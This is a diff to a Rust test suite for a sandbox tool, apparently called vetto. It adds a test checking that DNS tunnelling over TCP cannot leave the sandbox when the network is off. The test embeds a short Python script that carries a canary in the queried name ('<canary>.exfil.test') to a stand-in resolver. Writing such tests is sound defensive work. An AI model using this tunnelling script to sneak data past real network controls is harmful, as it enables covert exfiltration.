@@ -94,8 +94,10 @@ at_every_tier!(tcp_connect_with_ordinary_tools_is_blocked);
 
 /// Runs as an unprivileged user: send a UDP datagram to 127.0.0.1 (DNS
 /// tunnelling, syslog, statsd…). Evidence: bare, it arrives; sandboxed,
-/// nothing arrives: at FS-ONLY the send is refused; at FULL it goes to the
-/// sandbox's own loopback (so the probe may report success) and is lost there.
+/// nothing arrives: at FULL it goes to the sandbox's own loopback (so the
+/// probe may report success) and is lost there; at FS-ONLY the socket is
+/// made in vetto's network namespace that leads nowhere, where it is lost
+/// the same way, or, without user namespaces, refused.
 fn udp_send_to_loopback_is_blocked(tier: Tier) {
     require!(tier.feature());
     let w = World::at(tier);
@@ -112,7 +114,7 @@ fn udp_send_to_loopback_is_blocked(tier: Tier) {
     assert!(n > 0);
 
     let p = w.probe_sandboxed(&["udp-send", &addr]);
-    if tier == Tier::FsOnly {
+    if tier == Tier::FsOnly && crate::util::check(crate::util::Feature::Userns).is_err() {
         p.assert_blocked();
     } else {
         p.out.assert_ran();
@@ -126,6 +128,122 @@ fn udp_send_to_loopback_is_blocked(tier: Tier) {
     }
 }
 at_every_tier!(udp_send_to_loopback_is_blocked);
+
+/// The DNS-tunnelling job of
+/// [`dns_tunnel_over_tcp_with_the_network_off_never_leaves`]: for each
+/// `HOST:PORT` argument after the first (a name), a query for that name
+/// over TCP, each
+/// message after its two-byte length (RFC 1035 4.2.2, as `dig +tcp` and
+/// glibc's `use-vc` send it). Prints `HOST:PORT rcode N` for the answer
+/// of a resolver on port 53, `HOST:PORT sent` when the query went out to
+/// another port (not waiting for an answer), `HOST:PORT refused ERRNO`
+/// when it could not be sent.
+const PY_TCP_TUNNEL: &str = r#"
+import socket, struct, sys
+name = sys.argv[1]
+q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + b''.join(
+    bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0' + struct.pack('>HH', 1, 1)
+for target in sys.argv[2:]:
+    host, port = target.rsplit(':', 1)
+    try:
+        s = socket.create_connection((host, int(port)), 20)
+        s.sendall(struct.pack('>H', len(q)) + q)
+        if port != '53':
+            s.close()
+            print(target, 'sent')
+            continue
+        n = s.recv(2)
+        r = s.recv(struct.unpack('>H', n)[0])
+        print(target, 'rcode', r[3] & 15)
+    except OSError as e:
+        print(target, 'refused', e.errno)
+"#;
+
+/// Runs as an unprivileged user, with the network off (the default): DNS
+/// tunnelling over TCP — the data rides in the queried name,
+/// `<canary>.exfil.test` — never leaves. Bare, a stand-in resolver on the
+/// host's loopback receives the canary. Sandboxed, nothing arrives there:
+/// - at FULL the job's loopback is its own (`ECONNREFUSED`), and the
+///   sandbox's resolver address, `127.0.0.53:53`, is vetto's stub, which
+///   answers NXDOMAIN over TCP and records the name with python as the
+///   process;
+/// - at FS-ONLY the TCP socket is refused (`EPERM`) and recorded as
+///   `net-socket-denied` with python: no query is ever written, so no name
+///   exists to record (UDP lookups are named there, see
+///   `a_refused_lookup_at_fs_only_with_the_network_off_names_the_host`).
+fn dns_tunnel_over_tcp_with_the_network_off_never_leaves(tier: Tier) {
+    require!(tier.feature());
+    let w = World::at(tier);
+    w.write(&w.project.join("tunnel.py"), PY_TCP_TUNNEL);
+    let resolver = TcpListener::bind("127.0.0.1:0").unwrap();
+    let stand_in = resolver.local_addr().unwrap().to_string();
+    let canary = format!("vt{}x{}.exfil.test", std::process::id(), line!());
+    // The stand-in never answers; the bare query is shown arriving.
+    w.bare(&["python3", "tunnel.py", &canary, &stand_in])
+        .run()
+        .assert_success()
+        .assert_stdout_contains(&format!("{stand_in} sent"));
+    let got = accepted(&resolver);
+    assert!(
+        got.iter().any(|q| q.contains(canary.split('.').next().unwrap())),
+        "control: the bare query did not arrive: {got:?}"
+    );
+
+    let dir = w.root.join("reports");
+    let out = w
+        .sandboxed_with(
+            &["--report-dir", dir.to_str().unwrap()],
+            &["python3", "tunnel.py", &canary, &stand_in, "127.0.0.53:53"],
+        )
+        .run();
+    out.assert_ran();
+    assert_eq!(
+        accepted(&resolver),
+        Vec::<String>::new(),
+        "a sandboxed query reached the stand-in resolver\n{}",
+        out.dump()
+    );
+    let violations: Vec<serde_json::Value> = std::fs::read_to_string(dir.join("session.jsonl"))
+        .unwrap_or_default()
+        .lines()
+        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
+        .filter(|v| v["type"] == "violation")
+        .collect();
+    let by_python = |v: &&serde_json::Value| v["process"].to_string().contains("python3");
+    match tier {
+        Tier::Full => {
+            out.assert_stdout_contains(&format!("{stand_in} refused 111"))
+                .assert_stdout_contains("127.0.0.53:53 rcode 3");
+            assert!(
+                violations.iter().filter(by_python).any(|v| v["rule"]
+                    == "net-egress-blocked"
+                    && v["target"].to_string().contains(&canary)),
+                "the TCP query is not recorded by name with python3\n{violations:#?}\n{}",
+                out.dump()
+            );
+            let err = out.stderr();
+            assert!(
+                err.lines().any(|l| l
+                    .contains(&format!("net-egress-blocked {canary} (a name lookup)"))
+                    && l.contains(&format!("--allow-domain {canary}"))),
+                "{err}"
+            );
+        }
+        Tier::FsOnly => {
+            out.assert_stdout_contains(&format!("{stand_in} refused 1"))
+                .assert_stdout_contains("127.0.0.53:53 refused 1");
+            assert!(
+                violations
+                    .iter()
+                    .filter(by_python)
+                    .any(|v| v["rule"] == "net-socket-denied"),
+                "the refused socket is not recorded with python3\n{violations:#?}\n{}",
+                out.dump()
+            );
+        }
+    }
+}
+at_every_tier!(dns_tunnel_over_tcp_with_the_network_off_never_leaves);
 
 /// Runs as an unprivileged user: with `--net host` said explicitly, the
 /// same connection reaches the listener (the network switch is real, and
